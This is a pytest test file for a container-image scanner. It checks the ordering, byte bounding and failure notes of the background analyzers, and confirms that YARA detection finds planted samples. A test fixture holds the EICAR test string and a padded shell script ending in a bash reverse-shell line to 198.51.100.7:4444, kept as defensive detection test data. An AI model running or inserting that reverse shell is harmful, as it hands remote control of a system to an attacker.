"""Background analyzers (YARA) run beside the walk: same results, in order, bounded, failures noted."""

from __future__ import annotations

import logging
import threading
import time
from pathlib import Path
from typing import ClassVar

import pytest
from tests.helpers import ImageSpec, docker_archive, files, layer_tar

from mamoru.analyzers.base import AnalysisResult, FileContent, FileInfo
from mamoru.model.artifact import Layer
from mamoru.model.finding import FindingKind
from mamoru.model.inventory import FileKind, FileRecord
from mamoru.model.package import Package, PackageKind
from mamoru.scan.pipeline import ScanOptions, analyzers_for, scan_image
from mamoru.targets.detect import open_image
from mamoru.walk.background import BackgroundAnalyses
from mamoru.walk.limits import Limits
from mamoru.walk.walker import BACKGROUND_MIN_BYTES, Walker

pytestmark = pytest.mark.usefixtures("cache_dir")

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


class SizeAnalyzer:
    """Reports each file as a package named by its path, slowly for some, and fails on ``bad`` files."""

    name: ClassVar[str] = "size"
    path_pattern: ClassVar[str] = ""
    background: ClassVar[bool] = True

    def __init__(self) -> None:
        self.running = 0
        self.most_running = 0
        self.threads: set[str] = set()
        self._lock = threading.Lock()

    def required(self, path: str, mode: int, size: int) -> bool:
        return True

    def analyze(self, content: FileContent) -> AnalysisResult:
        with self._lock:
            self.running += 1
            self.most_running = max(self.most_running, self.running)
            self.threads.add(threading.current_thread().name)
        try:
            if content.info.path.startswith("slow"):
                time.sleep(0.02)
            if content.info.path.startswith("bad"):
                raise ValueError("cannot read this one")
            data = content.read()
            return AnalysisResult(packages=[Package(name=content.info.path, version=str(len(data)),
                                                    kind=PackageKind.GENERIC)])  # fmt: skip
        finally:
            with self._lock:
                self.running -= 1


def image(tmp_path: Path) -> Path:
    first = layer_tar(files(("slow-1", b"a" * 10), ("fast-2", b"bb"), ("bad-3", b"c"), ("slow-4", b"d" * 4)))
    second = layer_tar(files(("fast-5", b"e" * 7), ("slow-6", b"f")))
    return docker_archive(tmp_path / "image.tar", ImageSpec(layers=[first, second]))


def test_results_are_in_walk_order_and_failures_are_notes(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    monkeypatch.setattr("mamoru.walk.walker.BACKGROUND_MIN_BYTES", 0)  # hand over even these tiny files
    caplog.set_level(logging.DEBUG, logger="mamoru.walk.walker")
    analyzer = SizeAnalyzer()
    source = open_image(str(image(tmp_path)), Limits())
    try:
        walked = Walker([analyzer], Limits()).walk(source)
    finally:
        source.close()
    found = [(a.record.path, a.result.packages[0].version) for a in walked.analyzed]
    assert found == [("slow-1", "10"), ("fast-2", "2"), ("slow-4", "4"), ("fast-5", "7"), ("slow-6", "1")]
    assert [a.layer.index for a in walked.analyzed] == [0, 0, 0, 1, 1]
    assert [(n.path, n.message) for n in walked.notes] == [("bad-3", "size: cannot read this one")]
    assert "ValueError: cannot read this one" in caplog.text  # --debug shows the worker's traceback
    assert analyzer.threads == {t for t in analyzer.threads if t.startswith("mamoru-analyzer")}  # not the walker's
    assert not [t for t in threading.enumerate() if t.name.startswith("mamoru-analyzer")]  # the worker is gone


def test_waiting_bytes_are_bounded() -> None:
    """With a bound of 8 bytes, submitting a fourth 4-byte file first collects the oldest analyses."""
    collected: list[str] = []
    analyzer = SizeAnalyzer()
    background = BackgroundAnalyses(lambda a, record, found: collected.append(record.path), 8)
    layer = Layer(index=0)
    for number in range(4):
        path = f"slow-{number}"
        info = FileInfo(path=path, layer=layer, mode=0o644, size=4, uid=0, gid=0)
        record = FileRecord(path=path, layer_index=0, kind=FileKind.FILE, mode=0o644, uid=0, gid=0, size=4)
        background.submit(analyzer, FileContent(info, data=b"1234"), record)
        assert background._bytes <= 8
    assert collected == ["slow-0", "slow-1"]
    background.finish()
    assert collected == ["slow-0", "slow-1", "slow-2", "slow-3"]


def test_malware_scan_in_and_beside_the_walk(tmp_path: Path) -> None:
    """YARA scans small files in the walk's thread and large ones beside it; both are found."""
    script = b"#!/bin/sh\n" + b"# padding\n" * 20_000 + b"bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n"
    assert len(script) > BACKGROUND_MIN_BYTES
    layer = layer_tar(files(("srv/eicar.com", EICAR), ("srv/readme.txt", b"nothing here"), ("opt/run.sh", script)))
    path = docker_archive(tmp_path / "planted.tar", ImageSpec(layers=[layer]))
    assert any(getattr(a, "background", False) for a in analyzers_for(frozenset({FindingKind.MALWARE})))
    inventory = scan_image(str(path), ScanOptions(scanners=frozenset({FindingKind.MALWARE})))
    assert sorted((f.rule_id, f.location.path if f.location else "") for f in inventory.findings) == [
        ("MAL-001", "srv/eicar.com"),
        ("MAL-004", "opt/run.sh"),
    ]
